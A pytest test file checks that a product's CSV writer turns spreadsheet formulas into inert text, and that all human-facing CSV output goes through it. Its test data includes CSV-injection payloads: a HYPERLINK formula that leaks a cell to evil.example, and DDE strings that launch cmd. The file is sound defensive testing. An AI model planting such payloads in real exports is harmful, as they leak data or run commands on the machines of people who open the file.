"""The product's one CSV writer: what a spreadsheet would evaluate is shown as text instead."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from core import csvfile

#: OWASP's CSV-injection examples and their relatives: each would run in Excel or LibreOffice.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=1",
]
#: Values that start like a formula but are not one, or do not start like one at all.
PLAIN = ["-5", "+42", "-0.25", "1e5", "Ann = Bob", "a@b.com", "", "'quoted already"]


def written(rows: list[list[object]]) -> list[list[str]]:
    out = io.StringIO()
    csvfile.writer(out).writerows(rows)
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_written_as_text_and_read_back_as_it_was(formula: str) -> None:
    [[cell]] = written([[formula]])
    assert cell == "'" + formula
    assert csvfile.restore(cell) == formula


@pytest.mark.parametrize("value", PLAIN)
def test_numbers_and_ordinary_text_are_written_unchanged(value: str) -> None:
    [[cell]] = written([[value]])
    assert cell == value
    assert csvfile.restore(cell) == value


def test_none_numbers_and_quoting_of_separators() -> None:
    assert written([[None, -3, 1.5, 'say "hi", then leave']]) == [
        ["", "-3", "1.5", 'say "hi", then leave']
    ]


def test_neutralising_twice_changes_nothing_more() -> None:
    once = csvfile.neutralise("=1+1")
    assert csvfile.neutralise(once) == once


#: CSV that is a wire format (the Salesforce Bulk API's upload and the sandbox's answers), not
#: a file people open: values must reach the CRM exactly as they are.
WIRE_FORMATS = {"connectors/salesforce/bulk.py", "sandboxes/salesforce/bulk.py", "core/csvfile.py"}


def test_every_csv_people_open_is_written_by_csvfile() -> None:
    root = Path(__file__).resolve().parents[2]
    writers = {
        str(path.relative_to(root))
        for path in root.glob("*/**/*.py")
        if not path.is_relative_to(root / "tests")
        and ".venv" not in path.parts
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    }
    assert writers <= WIRE_FORMATS
